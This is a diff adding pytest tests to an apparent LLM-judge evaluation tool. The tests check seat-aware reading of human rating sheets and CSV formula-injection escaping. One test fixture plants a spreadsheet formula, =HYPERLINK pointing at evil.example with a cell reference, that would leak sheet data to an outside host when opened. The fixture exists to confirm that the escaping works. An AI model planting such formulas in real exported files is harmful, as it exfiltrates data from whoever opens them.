@@ -276,6 +276,57 @@ def test_human_sheet_hides_the_models_records_the_seats_and_reads_back(tmp_path,
         run_judge(_config(runs, ["h=h@http://127.0.0.1:9/v1"], tmp_path, human=str(sheet)))
 
 
+def _fill_template(runs: list[str], out: Path, words: dict[str, str]) -> Path:
+    """Write the human sheet for two runs and fill it as a rater who agrees with HUMAN would, in the
+    seats the sheet shows (``words``: answer 1's outcome -> what the rater writes)."""
+    import csv
+
+    assert main(["judge", "--human-template", *runs, "--rubric", "iimedgpt_pf", "--output", str(out)]) == 0
+    sheet = out / "human-iimedgpt_pf-huatuo26m.csv"
+    seats = json.loads((out / "human-iimedgpt_pf-huatuo26m.key.json").read_text())["a_first"]
+    rows = list(csv.DictReader(sheet.read_text(encoding="utf-8-sig").splitlines()))
+    for row in rows:
+        verdict = HUMAN[int(row["id"])]
+        row["verdict"], row["rater"] = words[verdict if seats[row["id"]] else FLIP[verdict]], "r1"
+    with open(sheet, "w", encoding="utf-8", newline="") as fh:
+        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+    return sheet
+
+
+def test_win_and_loss_words_on_the_human_sheet_are_read_in_its_seats(tmp_path):
+    """Issue 36: a rater of the sheet sees answer 1 and answer 2, never run A: "win" there is answer
+    1's win. It was read from run A's side, seats ignored (agreement 33% instead of 100%)."""
+    runs = _runs(tmp_path)
+    sheet = _fill_template(runs, tmp_path / "sheets", {"win": "win", "loss": "LOSS", "tie": "tie"})
+    with ExitStack() as stack:
+        _, url = _serve(stack, humanlike)
+        summary = run_judge(_config(runs, [f"h=h@{url}"], tmp_path, human=str(sheet)))[1]
+    assert summary["human"]["dimensions"][DIM]["judges"]["h"]["accuracy"] == 1.0
+
+
+def test_the_human_sheet_never_holds_a_cell_a_spreadsheet_would_run(tmp_path):
+    """Issue 36: the sheet held model answers raw (``=HYPERLINK(...)`` runs when opened); its cells
+    are prefixed as the report CSVs' are, and the sheet still reads back."""
+    runs = _runs(tmp_path)
+    samples = Path(runs[0]) / "samples" / "huatuo26m.jsonl"
+    records = [json.loads(x) for x in samples.read_text(encoding="utf-8").splitlines()]
+    records[0]["raw"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    records[1]["question"] = "+1 发热三天"
+    samples.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8")
+    sheet = _fill_template(runs, tmp_path / "sheets", {"win": "1", "loss": "2", "tie": "tie"})
+    import csv
+
+    cells = [c for row in csv.reader(sheet.read_text(encoding="utf-8-sig").splitlines()) for c in row]
+    assert "'" + records[0]["raw"] in cells and "'+1 发热三天" in cells
+    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
+    with ExitStack() as stack:
+        _, url = _serve(stack, first_seat)
+        summary = run_judge(_config(runs, [f"h=h@{url}"], tmp_path, human=str(sheet)))[1]
+    assert summary["human"]["dimensions"][DIM]["judges"]["h"]["n"] == 6
+
+
 @pytest.mark.parametrize(
     ("rows", "message"),
     [
